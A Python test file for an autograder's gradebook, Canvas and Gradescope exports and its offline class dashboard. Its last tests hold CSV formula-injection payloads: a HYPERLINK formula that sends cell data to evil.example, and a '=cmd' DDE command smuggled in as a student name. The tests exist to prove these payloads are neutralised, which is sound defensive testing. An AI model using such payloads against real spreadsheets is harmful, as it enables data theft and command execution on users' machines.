"""Gradebook, Canvas and Gradescope exports, and the class dashboard."""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess

import pytest

from grader.batch.dashboard import class_stats, write_dashboard
from grader.batch.exports import (
    ClassRow,
    canvas_csv,
    csv_cell,
    gradebook_csv,
    write_exports,
)
from grader.batch.intake import StudentSubmission, collect_submissions
from grader.orchestration.job import write_report
from grader.results import Student


def test_gradebook_has_one_row_per_student_with_points_per_group_and_stage(class_rows):
    table = list(csv.DictReader(io.StringIO(gradebook_csv(class_rows))))
    possible, students = table[0], table[1:]
    assert possible["student_id"] == "(points possible)"
    assert (possible["group:aligned"], possible["group:tails"], possible["stage:vector"], possible["total"]) == \
        ("4", "4", "2", "10")
    assert [r["student_id"] for r in students] == ["alice", "bob", "carol", "dave", "erin", "frank"]
    carol = students[2]
    assert (carol["group:tails"], carol["stage:vector"], carol["total"], carol["verdict"]) == \
        ("0", "0", "4", "wrong_answer")
    frank = students[5]  # compile error: no groups at all, still a full row of zeros
    assert (frank["group:aligned"], frank["total"], frank["max_score"]) == ("0", "0", "10")
    for row in students:  # the columns add up to the total
        parts = sum(float(v) for k, v in row.items() if k.startswith(("group:", "stage:")))
        assert parts == pytest.approx(float(row["total"]))


def test_canvas_csv_layout(class_rows):
    rows = list(csv.reader(io.StringIO(canvas_csv(class_rows, "MatMul (lab 5)"))))
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "MatMul (lab 5)"]
    assert rows[1][0] == "Points Possible" and rows[1][5] == "10"
    assert rows[2] == ["Alice", "", "alice", "", "A1", "10"]


def test_write_exports_lays_out_the_batch_folder(tmp_path, class_rows):
    notes = write_exports(class_rows, tmp_path, "MatMul", write_report)
    assert (tmp_path / "gradebook.csv").is_file() and (tmp_path / "canvas.csv").is_file()
    for row in class_rows:
        assert json.loads((tmp_path / "gradescope" / row.submission.slug / "results.json").read_text())["score"] \
            == row.result.score
    # Without run folders (results the batch made itself) the reports are rendered from the results.
    assert notes == []
    for row in class_rows:
        html = (tmp_path / "reports" / f"{row.submission.slug}.html").read_text()
        assert row.result.student.name in html


def test_class_stats(class_rows):
    stats = class_stats(class_rows, assignment_title="MatMul", backend="emu", seed_mode="secret")
    assert stats.students == 6 and stats.passed == 2
    assert stats.mean == pytest.approx((10 + 10 + 4 + 4 + 8 + 0) / 6)
    assert sum(b.value for b in stats.histogram) == 6
    assert stats.histogram[-1].value == 2 and stats.histogram[0].value == 1  # 100 % and 0 %
    tail = next(b for b in stats.cases if b.label.startswith("tail_97"))
    assert (tail.value, tail.detail) == (pytest.approx(3 / 5), "3/5")
    vector = stats.stages[0]
    assert vector.full == pytest.approx(2 / 6) and vector.correct == pytest.approx(3 / 6)
    assert [k.student_id for k in vector.fastest] == ["alice", "bob", "erin"]
    assert all(k.label == "modelled (mlu370-x8)" for k in vector.fastest)
    assert ("gdram_oob_write", 1) in [(b.label, b.value) for b in stats.diagnostics]  # no advice: its own name


def test_dashboard_is_self_contained(tmp_path, class_rows):
    path = tmp_path / "dashboard.html"
    write_dashboard(class_rows, path, assignment_title="MatMul <lab>", backend="emu", seed_mode="secret")
    html = path.read_text()
    assert "MatMul &lt;lab&gt;" in html  # escaped
    assert "prefers-color-scheme: dark" in html and "<svg" in html
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)  # nothing fetched from the network
    assert "modelled" in html
    for sid in ("alice", "frank"):
        assert f'href="reports/{sid}.html"' in html


@pytest.mark.browser
@pytest.mark.skipif(shutil.which("chromium") is None, reason="needs headless chromium")
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_dashboard_renders_in_headless_chromium(tmp_path, class_rows, scheme):
    path = tmp_path / "dashboard.html"
    write_dashboard(class_rows, path, assignment_title="MatMul", backend="emu", seed_mode="secret")
    shot = tmp_path / f"{scheme}.png"
    argv = ["chromium", "--headless", "--no-sandbox", "--disable-gpu", "--no-first-run",
            "--disable-background-networking", "--disable-component-update", "--disable-sync",
            "--window-size=1300,1400", f"--screenshot={shot}", path.as_uri()]
    if scheme == "dark":
        argv.insert(1, "--force-dark-mode")
    subprocess.run(argv, check=True, capture_output=True, timeout=120)
    data = shot.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n" and len(data) > 20_000  # a blank page compresses to a few KiB


def test_gradebook_columns_come_from_the_spec_even_when_nobody_reached_a_stage(class_rows):
    compile_failures = [class_rows[-1]]  # no groups, no stages in the result
    spec = ({"aligned": 4.0, "tails": 4.0}, {"vector": 2.0, "multicore": 5.0})
    table = list(csv.DictReader(io.StringIO(gradebook_csv(compile_failures, spec))))
    assert [k for k in table[0] if k.startswith(("group:", "stage:"))] == \
        ["group:aligned", "group:tails", "stage:vector", "stage:multicore"]
    assert table[0]["stage:multicore"] == "5" and table[1]["stage:multicore"] == "0"


def test_formula_cells_are_neutralised():
    for text in ("=HYPERLINK(\"http://x\",\"y\")", "+1", "-2+3", "@SUM(A1)", "\tx", "\rx"):
        assert csv_cell(text) == "'" + text
    assert csv_cell("Ada Lovelace") == "Ada Lovelace" and csv_cell(10) == "10" and csv_cell(None) == ""
    # Spreadsheets skip leading blanks before a formula: the first non-blank character decides (issue 28: class
    # folders named "\n=1+2" and " =HYPERLINK(...)").
    for text in ("\n=1+2", " =HYPERLINK(\"http://x\",\"y\")", "  +1", "\u3000@SUM(A1)", "\n\t-3"):
        assert csv_cell(text) == "'" + text
    assert csv_cell(" Ada") == " Ada" and csv_cell("a=b") == "a=b"


def test_a_formula_in_a_name_or_message_reaches_no_spreadsheet_as_a_formula(class_rows):
    attack = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    alice = class_rows[0]
    rows = [ClassRow(StudentSubmission(attack, "@evil", "x", alice.submission.path, content_hash="0" * 64),
                     alice.result.model_copy(update={"message": "-1 stage left", "student": Student(name=attack)}))]
    for text in (gradebook_csv(rows), canvas_csv(rows, "=title")):
        for cells in list(csv.reader(io.StringIO(text))):
            assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells), cells
    student = list(csv.DictReader(io.StringIO(gradebook_csv(rows))))[1]
    assert student["student_id"] == "'" + attack and student["name"] == "'@evil"
    assert student["message"] == "'-1 stage left"


def test_names_come_from_the_roster_or_folder_never_grade_toml(tmp_path, class_rows):
    """grade.toml is the student's: `name = "=cmd|..."` there must not reach an export as the student's name."""
    folder = tmp_path / "class" / "s042"
    (folder / "mlu").mkdir(parents=True)
    (folder / "ops.py").write_text("def sigmoid(x):\n    return x\n")
    (folder / "grade.toml").write_text('[student]\nname = "=cmd|\' /C calc\'!A0"\nid = "admin"\n')
    (sub,) = collect_submissions(tmp_path / "class", tmp_path / "unpacked")
    assert sub.student_id == "s042" and sub.name == ""
    result = class_rows[0].result.model_copy(update={"student": Student(id="admin", name="=cmd|' /C calc'!A0")})
    rows = [ClassRow(sub, result)]
    student = list(csv.DictReader(io.StringIO(gradebook_csv(rows))))[1]
    assert (student["student_id"], student["name"]) == ("s042", "s042")
    assert list(csv.reader(io.StringIO(canvas_csv(rows, "t"))))[2][0] == "s042"
